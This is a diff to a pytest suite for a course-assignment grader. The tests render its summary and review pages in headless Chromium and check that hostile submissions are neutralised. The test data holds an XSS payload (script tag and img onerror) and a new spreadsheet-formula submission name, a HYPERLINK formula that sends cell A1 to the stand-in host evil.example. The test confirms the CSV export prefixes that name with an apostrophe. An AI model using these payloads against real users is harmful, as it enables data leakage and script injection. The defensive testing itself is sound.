@@ -28,6 +28,7 @@ from grader.review import load_manual_scores
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
 pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium package is not installed")
 HOSTILE = "<script>document.title='PWNED'</script><img src=x onerror=\"document.title='PWNED'\"> bias"
+FORMULA_NAME = '=HYPERLINK("https:evil.example?"&A1,"open")'  # sorts first: the self-test's row
 
 
 def chromium(*args: str, user_dir: Path) -> str:
@@ -42,8 +43,9 @@ def chromium(*args: str, user_dir: Path) -> str:
 def class_out(catalog, tmp_path_factory):
     out = tmp_path_factory.mktemp("class")
     with Grader(catalog, GradeOptions(tasks=("task07", "task29", "task39"))) as grader:
-        for name, answer in (("alice", "The bias shifts the activation."), ("mallory", HOSTILE)):
-            folder = make_submission(tmp_path_factory.mktemp(name))
+        for name, answer in (("alice", "The bias shifts the activation."), ("mallory", HOSTILE),
+                             (FORMULA_NAME, "A bias lets the unit fire without input.")):
+            folder = make_submission(tmp_path_factory.mktemp("submission"))
             (folder / "answers.yaml").write_text(
                 (REFERENCE / "answers.yaml").read_text().replace("task07:", "task07_reference:")
                 + f"\ntask07:\n  answer: {json.dumps(answer)}\n")
@@ -57,7 +59,7 @@ def test_summary_page_renders_with_histogram_tasks_and_errors(class_out, tmp_pat
     chromium(f"--screenshot={tmp_path / 'summary.png'}", "--window-size=1100,1400", page.as_uri(), user_dir=tmp_path / "u1")
     assert (tmp_path / "summary.png").stat().st_size > 10_000
     dom = chromium("--dump-dom", page.as_uri(), user_dir=tmp_path / "u2")
-    for element in ('id="histogram"', 'id="tasks"', 'id="errors"', "Task 29", "2 submissions"):
+    for element in ('id="histogram"', 'id="tasks"', 'id="errors"', "Task 29", "3 submissions"):
         assert element in dom
 
 
@@ -74,5 +76,7 @@ def test_review_page_shows_rubric_answers_as_text_and_builds_the_scores_file(cla
     scores_csv = unescape(dom.split('<pre id="selftest">')[1].split("</pre>")[0])
     rows = list(csv.DictReader(io.StringIO(scores_csv)))
     assert rows and rows[0]["points"] == "1" and rows[0]["comment"] == 'Good, "quoted", answer'
+    assert rows[0]["submission"] == "'" + FORMULA_NAME  # a spreadsheet shows it as text
     (tmp_path / "scores.csv").write_text(scores_csv)
-    assert load_manual_scores(tmp_path / "scores.csv", catalog)[0].points == 1  # what --manual reads
+    score = load_manual_scores(tmp_path / "scores.csv", catalog)[0]  # what --manual reads
+    assert (score.points, score.submission) == (1, FORMULA_NAME)
